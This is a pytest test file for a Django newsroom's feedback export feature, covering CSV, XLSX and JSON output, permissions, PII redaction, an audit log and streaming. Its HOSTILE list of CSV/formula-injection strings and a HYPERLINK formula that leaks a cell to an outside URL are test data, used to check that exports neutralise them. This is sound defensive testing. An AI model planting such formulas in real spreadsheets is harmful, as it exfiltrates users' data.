"""Lists that leave the house: whole, covered, harmless to spreadsheets, piece by piece, and written down."""

import csv
import io
import json
import tracemalloc
import zipfile
from collections.abc import Iterator
from typing import Any
from xml.etree import ElementTree

import pytest
from django.db import connection
from django.db.utils import DatabaseError
from django.test import Client
from django.test.utils import CaptureQueriesContext

from articles.feedback import exporting, queue, sheets, triage
from articles.feedback.models import Export, Message, Vote
from tests.factories import THEN, UserFactory, chief, story
from tests.feedback.scenes import message

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("roles")]

MESSAGES, VOTES, MEASURES = (f"/admin/feedback/export/{what}/" for what in ("messages", "votes", "measures"))


def signed_in(role: str = "Audience", language: str = "en") -> Client:
    client = Client()
    client.force_login(UserFactory(role=role, language=language))
    return client


def take(client: Client, address: str, form: str, **sent: str) -> Any:
    response = client.post(address, {"form": form} | sent)
    assert response.status_code == 200 and response.streaming
    return response


def content(response: Any) -> bytes:
    return b"".join(response.streaming_content)


def csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def xlsx_rows(body: bytes) -> list[list[str]]:
    """What stands in the cells, and proof that none of them holds a formula."""
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        assert book.testzip() is None
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    name = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    assert not [*sheet.iter(f"{name}f"), *sheet.iter(f"{name}hyperlink")]
    return [["".join(cell.itertext()) for cell in row.iter(f"{name}c")] for row in sheet.iter(f"{name}row")]


def test_the_filtered_messages_leave_in_each_form() -> None:
    article = story(headline="El puerto de Ñuble")
    letter = message(text="¿Por qué?\nOtra línea", article=article, kind="error", language="es", at=THEN)
    triage.mark(message(text="Closed"), to="resolved", by=chief())
    client = signed_in()
    body = content(take(client, f"{MESSAGES}?kind=error", "csv"))
    assert body.startswith(b"\xef\xbb\xbf")
    heading, row = csv_rows(body)
    found = dict(zip(heading, row, strict=True))
    assert (found["message"], found["story"]) == ("¿Por qué?\nOtra línea", article.headline)
    assert found["sent"] == "2024-05-06T12:00:00+00:00"
    (entry,) = json.loads(content(take(client, f"{MESSAGES}?kind=error", "json")))
    assert (entry["number"], entry["message"], entry["email"]) == (letter.pk, "¿Por qué?\nOtra línea", "")
    cells = xlsx_rows(content(take(client, f"{MESSAGES}?kind=error", "xlsx")))
    assert len(cells) == 2 and "¿Por qué?\nOtra línea" in cells[1]
    assert len(csv_rows(content(take(client, f"{MESSAGES}?show=all", "csv")))) == 3


@pytest.mark.parametrize("form", ["csv", "xlsx", "json"])
def test_no_personal_detail_leaves(form: str) -> None:
    secrets = ("ana@example.org", "+57 300 123 4567", "GOMC850101MDFRRL09", "Anastasia Secreta")
    message(
        text=f"Write to {secrets[0]}",
        proof=f"or call {secrets[1]}",
        remedy=secrets[2],
        name=secrets[3],
        email="ana@example.org",
        kind="error",
    )
    body = content(take(signed_in(), MESSAGES, form))
    if form == "xlsx":
        with zipfile.ZipFile(io.BytesIO(body)) as book:
            body = b"".join(book.read(name) for name in book.namelist())
    text = body.decode()
    assert "•••" in text
    assert [secret for secret in secrets if secret in text] == []


HOSTILE = [
    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u200b=1", "\ufeff-1", "\x00=1"),
    *("＝1", "＋1", "－1", "＠a"),
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_would_be_a_formula_is_a_text(text: str) -> None:
    headings = [sheets.Heading("text", "text"), sheets.Heading("number", "number")]
    for rows in (csv_rows, xlsx_rows):
        make = sheets.csv_pieces if rows is csv_rows else sheets.xlsx_pieces
        cell, number = rows(b"".join(make(headings, iter([(text, -5)]))))[1]
        assert cell.startswith("'") and not cell.startswith("'\x00")
        assert number == "-5"
    # Programs read JSON, and want what was written.
    (entry,) = json.loads(b"".join(sheets.json_pieces(headings, [(text, -5)])))
    assert entry == {"text": text, "number": -5}


def test_a_hostile_message_is_harmless_in_the_file_itself() -> None:
    message(text='=HYPERLINK("https://example.org/?"&A1,"Prize")')
    client = signed_in()
    assert any(cell.startswith("'=HYPERLINK") for cell in csv_rows(content(take(client, MESSAGES, "csv")))[1])
    assert any(cell.startswith("'=HYPERLINK") for cell in xlsx_rows(content(take(client, MESSAGES, "xlsx")))[1])


def test_another_separator_brings_no_formula_to_life() -> None:
    headings = [sheets.Heading("text", "text")]
    body = b"".join(sheets.csv_pieces(headings, [("harmless; =1+1\n@SUM(A1)\tx; a-b",)])).decode("utf-8-sig")
    cells = [cell.strip() for line in body.splitlines() for cell in line.replace("\t", ";").split(";")]
    assert [cell for cell in cells if cell[:1] in "=+-@"] == []
    assert cells[-1] == 'a-b"'


@pytest.mark.parametrize("role", ["Editor", "Reporter"])
@pytest.mark.parametrize("address", [MESSAGES, VOTES, MEASURES])
def test_who_has_no_permission_takes_nothing_and_leaves_no_line(role: str, address: str) -> None:
    message()
    client = signed_in(role)
    assert client.get(address).status_code == 403
    assert client.post(address, {"form": "csv"}).status_code == 403
    assert not Export.objects.exists()


def test_the_verb_itself_asks_for_the_permission() -> None:
    from django.core.exceptions import PermissionDenied

    listing = exporting.messages(Message.objects.all(), "")
    with pytest.raises(PermissionDenied):
        exporting.export(listing, "csv", by=UserFactory(role="Editor"))


def test_it_is_written_down_before_the_first_row_leaves() -> None:
    for number in range(3):
        message(text=f"Message {number}")
    client = signed_in()
    response = client.post(f"{MESSAGES}?kind=comment&language=en", {"form": "json"})
    line = Export.objects.select_related("by").get()
    assert (line.what, line.form, line.rows, line.by.get_username()[:5]) == ("messages", "json", 3, "staff")
    assert line.filters == queue.describe(response.wsgi_request.GET)
    assert line.filters in client.get("/admin/feedback/export/").content.decode()


def test_the_log_is_not_changed() -> None:
    line = Export.objects.create(at=THEN, by=chief(), what="messages", form="csv", rows=1)
    client = Client()
    client.force_login(chief())
    assert client.post(f"/admin/feedback/export/{line.pk}/delete/", {"post": "yes"}).status_code == 403
    with pytest.raises(DatabaseError, match="Cannot update or delete"):
        line.delete()


def test_the_filters_are_in_the_name_of_the_file() -> None:
    message()
    response = take(signed_in(), f"{MESSAGES}?kind=error&language=es&q=../../x", "xlsx")
    name = response["Content-Disposition"]
    assert name.startswith('attachment; filename="messages-') and name.endswith('.xlsx"')
    assert "error" in name and "spanish" in name and "/" not in name
    assert "no-store" in response["Cache-Control"]


def test_headings_and_words_are_those_of_the_desks_language() -> None:
    message(kind="error")
    heading, row = csv_rows(content(take(signed_in(language="es"), MESSAGES, "csv")))
    assert "mensaje" in heading and "aviso de error" in row


@pytest.mark.parametrize("form", ["", "exe", "csv\x00"])
def test_a_form_that_nobody_knows_is_refused(form: str) -> None:
    assert signed_in().post(MESSAGES, {"form": form}).status_code == 400
    assert not Export.objects.exists()


def test_votes_leave_as_their_list_shows_them() -> None:
    article = story(headline="The harbour")
    for helpful in (True, False, False):
        Vote.objects.create(article=article, address=article.path, language="en", helpful=helpful, sent_at=THEN)
    client = signed_in()
    rows = json.loads(content(take(client, f"{VOTES}?helpful__exact=0", "json")))
    assert [(row["helpful"], row["story"]) for row in rows] == [(0, "The harbour")] * 2
    assert client.get(f"{VOTES}?sent_at__gte=yesterday").status_code == 400


def test_measures_leave_with_their_numbers_as_numbers() -> None:
    article = story(headline="The harbour")
    Vote.objects.bulk_create(
        Vote(article=article, address=article.path, language="en", helpful=n % 4 > 0, sent_at=THEN) for n in range(8)
    )
    client = signed_in()
    heading, row = csv_rows(content(take(client, f"{MEASURES}?period=all", "csv", table="helpful")))
    assert heading[:5] == ["Story", "address", "Answers", "Helpful", "at least"]
    assert row[:4] == ["The harbour", article.path, "8", "0.75"]
    for table in ("times", "waits", "dated-waits", "sections", "authors", "reported", "unhelpful"):
        assert csv_rows(content(take(client, f"{MEASURES}?period=all", "csv", table=table)))[0]
    assert client.post(MEASURES, {"form": "csv", "table": "passwords"}).status_code == 404


@pytest.mark.parametrize("form", ["csv", "json", "xlsx"])
def test_a_long_list_is_never_held_whole(form: str) -> None:
    """Rows are made as the file is read: while it is, little more memory is in use than for the first thousand rows."""

    def rows() -> Iterator[tuple[int, str]]:
        for number in range(40_000):
            yield number, f"Message {number} " + "x" * 400

    headings = [sheets.Heading("number", "number"), sheets.Heading("text", "text")]
    tracemalloc.start()
    try:
        size = sum(len(piece) for piece in sheets.FORMS[form].pieces(headings, rows()))
        _now, most = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert size > 500_000
    assert most < 3_000_000, f"{most / 1e6:.1f} MB for 17 MB of texts"


def test_rows_come_by_a_cursor_of_the_server_as_the_file_is_read() -> None:
    Message.objects.bulk_create(
        Message(address="/", language="en", text=f"Message {n}", sent_at=THEN) for n in range(2500)
    )
    response = take(signed_in(), MESSAGES, "csv")
    fetched = []
    with CaptureQueriesContext(connection) as asked:
        pieces = iter(response.streaming_content)
        next(pieces)
        with connection.cursor() as cursor:
            cursor.execute("SELECT name FROM pg_cursors")
            fetched = [name for (name,) in cursor.fetchall()]
        rest = b"".join(pieces)
    assert [name for name in fetched if "django_curs" in name]
    assert rest.count(b"Message ") == 2000
    assert len([query for query in asked if "feedback_message" in query["sql"]]) <= 1
